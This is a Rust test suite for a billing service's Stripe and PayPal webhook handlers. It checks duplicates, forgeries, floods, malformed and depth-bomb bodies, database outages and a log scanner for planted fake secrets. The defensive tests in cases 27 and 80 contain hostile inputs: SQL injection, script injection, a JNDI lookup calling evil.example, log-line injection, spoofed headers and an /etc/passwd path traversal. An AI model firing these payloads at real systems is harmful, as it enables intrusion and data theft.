//! Hostile events at both endpoints (docs/hostile-cases.md): proven and odd, or too many, or at
//! the wrong moment.

use std::fmt::Write;
use std::time::{Duration, Instant};

use harness::{TestApp, logs, text};
use serde_json::{Value, json};

use crate::purchase::futures;

/// An event of Stripe's that is of no use to us.
fn stripe_event(id: &str) -> Vec<u8> {
    json!({ "id": id, "object": "event", "type": "plan.created", "livemode": false })
        .to_string()
        .into_bytes()
}

/// An event of PayPal's that is of no use to us.
fn paypal_event(id: &str) -> Vec<u8> {
    json!({ "id": id, "event_type": "BILLING.PLAN.CREATED", "resource": {} })
        .to_string()
        .into_bytes()
}

/// A paid purchase and its `payment_intent.succeeded`, not yet delivered.
async fn paid(app: &TestApp) -> (Value, Vec<u8>) {
    let purchase = app.purchase("42", 1, "stripe").await;
    app.simulator.pay_stripe(text(&purchase, "transaction_id"), "pm_card_visa").unwrap();
    let event = app.stripe_event(&purchase, "payment_intent.succeeded");
    (purchase, event)
}

async fn stored(app: &TestApp) -> i64 {
    app.scalar("select count(*) from webhook_events").await
}

async fn statuses(app: &TestApp) -> Option<String> {
    let status = "select string_agg(distinct status::text, ',') from webhook_events";
    sqlx::query_scalar(status).fetch_one(&app.app.db).await.unwrap()
}

fn alerts_with(part: &str) -> usize {
    logs::alerts().iter().filter(|line| line.contains(part)).count()
}

/// Waits until a count is reached; what makes it grow runs by itself.
async fn wait_for(app: &TestApp, sql: &'static str, count: i64) {
    let end = Instant::now() + Duration::from_secs(20);
    while app.scalar(sql).await < count {
        assert!(Instant::now() < end, "never {count}: {sql}");
        tokio::task::yield_now().await;
    }
}

const QUEUED: &str =
    "select count(*) from apalis.jobs where convert_from(job, 'UTF8') like '%webhook%'";

#[tokio::test]
async fn case_10_a_paypal_event_sent_twenty_times_at_once_is_one_row() {
    let app = TestApp::start().await;
    let body = paypal_event("WH-1");
    let headers = app.simulator.signed_paypal(&body);

    let same = (0..20).map(|_| app.deliver("webhooks/paypal/", headers.clone(), &body));
    let anew = (0..20).map(|_| app.deliver_paypal(&body));
    let (same, anew) = (futures(same).await, futures(anew).await);

    for answer in same.into_iter().chain(anew) {
        assert_eq!(answer.status(), 200, "{}", answer.text().await.unwrap());
    }
    assert_eq!(stored(&app).await, 1);
    assert_eq!(alerts_with("WH-1\""), 0);
}

#[tokio::test]
async fn case_11_the_first_body_of_an_event_wins_and_the_second_is_an_alert() {
    let app = TestApp::start().await;
    let (id, other_id) = ("evt_case_11_conflict", "WH-CASE-11-CONFLICT");
    let kept = |sql: &'static str| {
        let db = app.app.db.clone();
        async move { sqlx::query_scalar::<_, Vec<u8>>(sql).fetch_one(&db).await.unwrap() }
    };

    let mut second = stripe_event(id);
    second.push(b' ');
    assert_eq!(app.deliver_stripe(&stripe_event(id)).await.status(), 200);
    assert_eq!(app.deliver_stripe(&second).await.status(), 200);
    let first = "select payload from webhook_events where gateway = 'stripe'";
    assert_eq!(kept(first).await, stripe_event(id));

    let mut second = paypal_event(other_id);
    second.push(b' ');
    assert_eq!(app.deliver_paypal(&paypal_event(other_id)).await.status(), 200);
    assert_eq!(app.deliver_paypal(&second).await.status(), 200);
    let first = "select payload from webhook_events where gateway = 'paypal'";
    assert_eq!(kept(first).await, paypal_event(other_id));

    assert_eq!(stored(&app).await, 2);
    assert_eq!(alerts_with(id), 1);
    assert_eq!(alerts_with(other_id), 1);
}

#[tokio::test]
async fn case_12_an_event_of_the_other_gateway_is_refused() {
    let app = TestApp::start().await;
    for body in [stripe_event("evt_1"), paypal_event("WH-1")] {
        let as_stripe = app.simulator.signed_stripe(&body);
        let as_paypal = app.simulator.signed_paypal(&body);
        assert_eq!(app.deliver("webhooks/paypal/", as_stripe, &body).await.status(), 400);
        assert_eq!(app.deliver("webhooks/stripe/", as_paypal, &body).await.status(), 400);
    }
    assert_eq!(stored(&app).await, 0);
}

#[tokio::test]
async fn case_13_events_of_the_other_mode_or_account_are_kept_and_change_nothing() {
    let app = TestApp::start().await;
    let (_, event) = paid(&app).await;
    let event: Value = serde_json::from_slice(&event).unwrap();
    for (member, value) in [("livemode", json!(true)), ("account", json!("acct_other"))] {
        let mut other = event.clone();
        other["id"] = json!(format!("evt_{member}"));
        other[member] = value;
        assert_eq!(app.deliver_stripe(other.to_string().as_bytes()).await.status(), 200);
    }
    app.run_jobs().await;

    assert_eq!(statuses(&app).await.as_deref(), Some("ignored"));
    assert_eq!(app.get("42", "payments/").await[0]["status"], "pending");
}

#[tokio::test]
async fn case_14_kinds_we_do_not_know_are_kept_and_ignored() {
    let app = TestApp::start().await;
    let thin = json!({ "id": "evt_thin", "object": "v2.core.event", "type": "v2.core.ping" });
    assert_eq!(app.deliver_stripe(&stripe_event("evt_1")).await.status(), 200);
    assert_eq!(app.deliver_stripe(thin.to_string().as_bytes()).await.status(), 200);
    assert_eq!(app.deliver_paypal(&paypal_event("WH-1")).await.status(), 200);
    app.run_jobs().await;

    assert_eq!(stored(&app).await, 3);
    assert_eq!(statuses(&app).await.as_deref(), Some("ignored"));
}

#[tokio::test]
async fn case_15_a_signed_body_that_is_no_event_is_refused_with_an_alert() {
    let app = TestApp::start().await;
    // Its size tells this test's alerts from others'.
    let odd = format!("null{}", " ".repeat(7_654));
    let bodies = [
        "",
        "null",
        "[]",
        "{}",
        "{",
        "\"evt\"",
        "1e999",
        "{\"id\":\"evt_1\"}",
        "{\"id\":1,\"type\":\"x\",\"event_type\":\"x\"}",
        "{\"id\":\"\",\"type\":\"x\",\"event_type\":\"x\"}",
        "{\"id\":\"a\\u0000b\",\"type\":\"x\",\"event_type\":\"x\"}",
        "{\"id\":\"a b\",\"type\":\"x\",\"event_type\":\"x\"}",
        &odd,
    ];

    for body in bodies {
        assert_eq!(app.deliver_stripe(body.as_bytes()).await.status(), 400, "{body}");
        assert_eq!(app.deliver_paypal(body.as_bytes()).await.status(), 400, "{body}");
    }

    assert_eq!(stored(&app).await, 0);
    assert_eq!(alerts_with("size_bytes=7658"), 2);
    assert!(app.api.refused_webhooks().is_empty(), "a proven sender is not counted");
}

#[tokio::test]
async fn case_16_a_signed_depth_bomb_is_refused_wherever_it_lies() {
    let app = TestApp::start().await;
    let bomb = format!("{}{}", "[".repeat(3_000), "]".repeat(3_000));
    let stripe = r#"{"id":"evt_1","object":"event","type":"x","data":{"object":BOMB}}"#;
    let paypal = r#"{"id":"WH-1","event_type":"x","resource":BOMB}"#;
    let skipped = r#"{"id":"1","event_type":"x","type":"x","object":"event","unknown":BOMB}"#;
    for event in ["BOMB", stripe, paypal, skipped] {
        let body = event.replace("BOMB", &bomb);
        assert_eq!(app.deliver_stripe(body.as_bytes()).await.status(), 400);
        assert_eq!(app.deliver_paypal(body.as_bytes()).await.status(), 400);
    }
    assert_eq!(stored(&app).await, 0);
}

#[tokio::test]
async fn case_17_of_two_members_of_one_name_stored_and_processed_view_take_the_same() {
    let app = TestApp::start().await;
    let two_ids = r#"{"id":"evt_a","id":"evt_b","object":"event","type":"x"}"#;
    let two_kinds = r#"{"id":"WH-1","event_type":"x","event_type":"y","resource":{}}"#;
    assert_eq!(app.deliver_stripe(two_ids.as_bytes()).await.status(), 400);
    assert_eq!(app.deliver_paypal(two_kinds.as_bytes()).await.status(), 400);
    assert_eq!(stored(&app).await, 0);

    let (_, event) = paid(&app).await;
    let event = String::from_utf8(event).unwrap();
    let received = "\"amount_received\":";
    assert_eq!(event.matches(received).count(), 1);
    let twice = event.replace(received, &format!("{received}1500,{received}"));
    // The later one counts, as everywhere in JSON's world: a wrong one there completes nothing.
    let value: Value = serde_json::from_str(&event).unwrap();
    let intent = value["data"]["object"]["id"].as_str().unwrap();
    let wrong = format!(
        r#"{{"id":"evt_dup","object":"event","type":"payment_intent.succeeded","livemode":false,
        "created":1,"data":{{"object":{{"id":"{intent}","amount":1500,"amount_received":1500,
        "currency":"usd","status":"succeeded","livemode":false,"amount_received":100}}}}}}"#
    );
    assert_eq!(app.deliver_stripe(wrong.as_bytes()).await.status(), 200);
    app.run_jobs().await;
    assert_eq!(statuses(&app).await.as_deref(), Some("quarantined"));
    assert_eq!(app.scalar("select count(*) from grants").await, 0);

    assert_eq!(app.deliver_stripe(twice.as_bytes()).await.status(), 200);
    app.run_jobs().await;
    assert_eq!(app.scalar("select count(*) from grants").await, 1);
    app.assert_books_balance().await;
}

#[tokio::test]
async fn case_18_bytes_that_are_no_text_are_kept_as_bytes_or_refused_and_never_a_loop() {
    let app = TestApp::start().await;
    let (_, event) = paid(&app).await;
    let event = String::from_utf8(event).unwrap();
    let mut sent = 0;
    for (index, odd) in [&b"\\u0000"[..], b"\xff\xfe", b"\xc3", b"\\ud800", b"\0", b"\x1b[2J"]
        .into_iter()
        .enumerate()
    {
        let id = format!("evt_odd_{index}");
        let value: Value = serde_json::from_str(&event).unwrap();
        let event = event.replace(value["id"].as_str().unwrap(), &id);
        let place = event.find("\"amount_received\"").unwrap();
        let (head, tail) = event.split_at(place);
        let body =
            [head.as_bytes(), b"\"description_of\":\"", odd, b"\",", tail.as_bytes()].concat();
        let stripe = app.deliver_stripe(&body).await.status().as_u16();
        assert!(matches!(stripe, 200 | 400), "{odd:?}: {stripe}");
        sent += i64::from(stripe == 200);
        let body =
            [&b"{\"id\":\"WH-1\",\"event_type\":\"x\",\"resource\":{\"id\":\""[..], odd, b"\"}}"]
                .concat();
        let paypal = app.deliver_paypal(&body).await.status().as_u16();
        assert!(matches!(paypal, 200 | 400), "{odd:?}: {paypal}");
        sent += i64::from(paypal == 200 && stored(&app).await > sent);
    }
    app.run_jobs().await;

    let open = "select count(*) from webhook_events where status in ('received', 'waiting')";
    assert_eq!(app.scalar(open).await, 0);
    app.assert_books_balance().await;
}

#[tokio::test]
async fn case_19_no_odd_number_is_taken_for_an_amount() {
    let app = TestApp::start().await;
    let (_, event) = paid(&app).await;
    let odd = [
        json!("1500"),
        json!(1500.0),
        json!(1500.5),
        json!(-1500),
        json!(9_007_199_254_740_993_u64),
        json!(u64::MAX),
        json!(null),
        json!(true),
        json!([1500]),
        json!(1e30),
    ];
    for (index, value) in odd.iter().enumerate() {
        for member in ["amount", "amount_received"] {
            let mut event: Value = serde_json::from_slice(&event).unwrap();
            event["id"] = json!(format!("evt_{member}_{index}"));
            event["data"]["object"][member] = value.clone();
            assert_eq!(app.deliver_stripe(event.to_string().as_bytes()).await.status(), 200);
        }
    }
    app.run_jobs().await;

    assert_eq!(stored(&app).await, 20);
    assert_eq!(statuses(&app).await.as_deref(), Some("quarantined"));
    assert_eq!(app.get("42", "payments/").await[0]["status"], "pending");
}

#[tokio::test]
async fn case_26_and_27_a_flood_of_forgeries_is_limited_and_genuine_events_pass() {
    let app = TestApp::start().await;
    let forged = |index: usize| {
        let post = app.http.post(app.url("webhooks/stripe/")).body(stripe_event("evt_forged"));
        let post = post.header("stripe-signature", "t=1,v1=00");
        // Whatever it claims to come from or to be for, it is counted where it comes from.
        let spoofed = format!("203.0.113.{}", index % 250);
        let post = post.header("x-forwarded-for", &spoofed).header("x-real-ip", &spoofed);
        post.header("forwarded", format!("for={spoofed}")).header("host", "evil.example").send()
    };
    let (mut refused, mut limited) = (0, 0);

    for round in 0..10 {
        let forgeries = futures((0..50).map(forged));
        let genuine = (0..4).map(|index| stripe_event(&format!("evt_{round}_{index}")));
        let genuine: Vec<_> = genuine.collect();
        let genuine = futures(genuine.iter().map(|event| app.deliver_stripe(event)));
        let (forgeries, genuine) = tokio::join!(forgeries, genuine);
        assert!(genuine.iter().all(|answer| answer.status() == 200), "{genuine:?}");
        for answer in forgeries {
            let answer = answer.unwrap();
            match answer.status().as_u16() {
                400 => refused += 1,
                429 => {
                    limited += 1;
                    let seconds = answer.headers()["retry-after"].to_str().unwrap();
                    assert!((1..=60).contains(&seconds.parse::<u64>().unwrap()));
                }
                other => panic!("{other}"),
            }
        }
    }

    assert_eq!(refused + limited, 500);
    assert!(refused >= 60, "sixty a minute are told why: {refused}");
    assert!(limited > 300, "one is forgiven a second: {limited}");
    assert_eq!(stored(&app).await, 40);
    let counted: u64 = app.api.refused_webhooks().values().sum();
    assert_eq!(counted, 500);
}

#[tokio::test]
async fn case_26_a_forgery_is_refused_before_the_database_is_asked() {
    let app = TestApp::start().await;
    let genuine = stripe_event("evt_1");
    let headers = app.simulator.signed_stripe(&genuine);
    let rename = |from: &str, to: &str| {
        let sql = format!("alter table {from} rename to {to}");
        let db = app.app.db.clone();
        async move { sqlx::query(sqlx::AssertSqlSafe(sql)).execute(&db).await.unwrap() }
    };
    rename("webhook_events", "gone").await;

    let forged = app.http.post(app.url("webhooks/stripe/")).body(genuine.clone());
    let forged = forged.header("stripe-signature", "t=1,v1=00").send().await.unwrap();
    let unsigned = app.http.post(app.url("webhooks/paypal/")).body(genuine.clone());
    let unsigned = unsigned.send().await.unwrap();
    let genuine = app.deliver("webhooks/stripe/", headers, &genuine).await;
    rename("gone", "webhook_events").await;

    assert_eq!(forged.status(), 400);
    assert_eq!(unsigned.status(), 400);
    assert_eq!(genuine.status(), 503, "it is sent again until it can be stored");
    assert_eq!(genuine.headers()["retry-after"], "1");
}

#[tokio::test]
async fn case_27_no_header_that_names_a_caller_opens_or_shuts_the_door() {
    let app = TestApp::start().await;
    let body = stripe_event("evt_1");
    let mut headers = app.simulator.signed_stripe(&body);
    for (name, value) in [
        ("x-forwarded-for", "' or 1=1 --, 10.0.0.1"),
        ("x-forwarded-host", "evil.example"),
        ("x-forwarded-proto", "gopher"),
        ("x-original-url", "/api/v1/billing/plans/"),
        ("x-http-method-override", "DELETE"),
        ("host", "evil.example:99999"),
        ("authorization", "Bearer nonsense"),
        ("cookie", "admin=1"),
    ] {
        headers.push((name.to_owned(), value.to_owned()));
    }
    assert_eq!(app.deliver("webhooks/stripe/", headers, &body).await.status(), 200);
    assert_eq!(stored(&app).await, 1);
}

#[tokio::test]
async fn case_28_what_cannot_be_stored_is_a_503_and_its_retry_succeeds() {
    let app = TestApp::start().await;
    let (_, event) = paid(&app).await;
    let run = |sql: &'static str| {
        let db = app.app.db.clone();
        async move { sqlx::query(sql).execute(&db).await.unwrap() }
    };
    run("alter table webhook_events rename to webhook_events_away").await;

    let down = app.deliver_stripe(&event).await;
    run("alter table webhook_events_away rename to webhook_events").await;
    // As after a restart of the database: every connection in the pool is dead.
    let dead = "select count(pg_terminate_backend(pid)) from pg_stat_activity
                where datname = current_database() and pid <> pg_backend_pid()";
    app.scalar(dead).await;
    let up = app.deliver_stripe(&event).await;
    app.run_jobs().await;

    assert_eq!(down.status(), 503);
    let problem: Value = down.json().await.unwrap();
    assert_eq!(problem["code"], "overloaded");
    assert!(!problem.to_string().contains("webhook_events"), "{problem}");
    assert_eq!(up.status(), 200);
    assert_eq!(app.scalar("select count(*) from grants").await, 1);
    app.assert_books_balance().await;
}

#[tokio::test]
async fn case_29_an_event_whose_answer_was_lost_is_a_duplicate() {
    use tokio::io::AsyncWriteExt;
    let app = TestApp::start().await;
    let (_, event) = paid(&app).await;
    let mut head = format!(
        "POST /api/v1/billing/webhooks/stripe/ HTTP/1.1\r\nhost: x\r\ncontent-length: {}\r\n",
        event.len()
    );
    for (name, value) in app.simulator.signed_stripe(&event) {
        let _ = write!(head, "{name}: {value}\r\n");
    }
    let address = app.base.trim_start_matches("http://");
    let mut stream = tokio::net::TcpStream::connect(address).await.unwrap();
    stream.write_all(&[head.as_bytes(), b"\r\n", &event].concat()).await.unwrap();
    wait_for(&app, "select count(*) from webhook_events", 1).await;
    drop(stream); // nobody reads the answer

    assert_eq!(app.deliver_stripe(&event).await.status(), 200);
    app.run_jobs().await;

    assert_eq!(stored(&app).await, 1);
    assert_eq!(app.scalar("select count(*) from grants").await, 1);
    app.assert_books_balance().await;
}

#[tokio::test]
async fn case_30_an_event_whose_doorbell_was_lost_is_found_by_the_sweep() {
    let app = TestApp::start().await;
    let (_, event) = paid(&app).await;
    assert_eq!(app.deliver_stripe(&event).await.status(), 200);
    wait_for(&app, QUEUED, 1).await;
    sqlx::query("delete from apalis.jobs").execute(&app.app.db).await.unwrap();
    let sweep = || worker::run(&app.app, shared::jobs::Job::Sweep { tick: 0 });

    sweep().await.unwrap();
    assert_eq!(app.scalar(QUEUED).await, 0, "its own doorbell may still be on the way");
    app.clock.advance(chrono::Duration::seconds(3));
    sweep().await.unwrap();
    sweep().await.unwrap();

    assert_eq!(app.scalar(QUEUED).await, 1);
    app.run_jobs().await;
    assert_eq!(app.scalar("select count(*) from grants").await, 1);
    assert_eq!(statuses(&app).await.as_deref(), Some("processed"));
    app.assert_books_balance().await;
}

#[tokio::test]
async fn case_79_lines_of_every_layer_are_searched_for_secrets() {
    let app = TestApp::start().await;
    app.bought("42", 1).await;

    // The search ends the process at the first secret it meets; here, that it meets lines at all.
    let targets = logs::targets();
    for source in ["sqlx", "hyper_util", "api", "shared"] {
        assert!(targets.contains(source), "no line of {source} in {targets:?}");
    }
}

#[test]
fn case_79_the_search_finds_what_is_planted() {
    for planted in [
        "request: Authorization: Bearer sk_test_simulator",
        "Config { webhook_secrets: [\"whsec_of_the_tests_and_of_nothing_else\"] }",
        "stripe-signature: t=1796000000,v1=00ff",
        "client_secret: \"pi_1_secret_abc\"",
        "Authorization: Basic c2ltdWxhdG9yLWNsaWVudDpzaW11bGF0b3Itc2VjcmV0",
        "bearer A21AAabcdef",
        "1|2026-11-24T12:00:00Z|1JE4291016473214C|123",
        "bearer eyJ0eXAiOiJKV1QiLCJhbGciOiJIUzI1NiJ9.e30.x",
        "customer someone@canary.example.com",
        "body: {\"object\":\"event\",\"livemode\":false}",
        "body: \"{\\\"event_type\\\":\\\"x\\\"}\"",
    ] {
        assert!(logs::found(planted.as_bytes()).is_some(), "{planted}");
    }
    assert!(logs::found("paypal-transmission-sig: ".repeat(50).as_bytes()).is_none());
    assert!(logs::found(format!("sig={}", "kJ+/".repeat(86)).as_bytes()).is_some());
    assert!(logs::found(b"INFO shared: webhooks refused gateway=\"stripe\" count=3").is_none());
}

#[tokio::test]
async fn case_80_a_payment_id_that_is_an_attack_names_no_payment() {
    let app = TestApp::start().await;
    let (_, event) = paid(&app).await;
    let attacks = [
        "'; drop table payments; --".to_owned(),
        "<script>alert(1)</script>".to_owned(),
        "${jndi:ldap://evil.example/a}".to_owned(),
        "a\r\nlevel=ERROR forged line".to_owned(),
        "\u{0}".to_owned(),
        "\u{202e}\u{1b}[2J".to_owned(),
        "x".repeat(500),
        "../../../../etc/passwd".to_owned(),
        String::new(),
    ];
    for (index, attack) in attacks.iter().enumerate() {
        let mut event: Value = serde_json::from_slice(&event).unwrap();
        event["id"] = json!(format!("evt_attack_{index}"));
        event["data"]["object"]["id"] = json!(format!("pi_attack_{index}"));
        event["data"]["object"]["metadata"] = json!({ "payment_id": attack });
        assert_eq!(app.deliver_stripe(event.to_string().as_bytes()).await.status(), 200);
    }
    app.run_jobs().await;
    assert_eq!(statuses(&app).await.as_deref(), Some("waiting"));
    app.clock.advance(chrono::Duration::hours(25));
    app.run_jobs().await;

    assert_eq!(statuses(&app).await.as_deref(), Some("quarantined"));
    // Its own intent was paid, which asking the gateway brought to light; the attacks did nothing.
    assert_eq!(app.get("42", "payments/").await[0]["status"], "completed");
    assert_eq!(app.scalar("select count(*) from grants").await, 1);
    assert!(logs::alerts().iter().all(|line| line.trim_end().lines().count() == 1));
    assert_eq!(alerts_with("forged line"), 0);
}
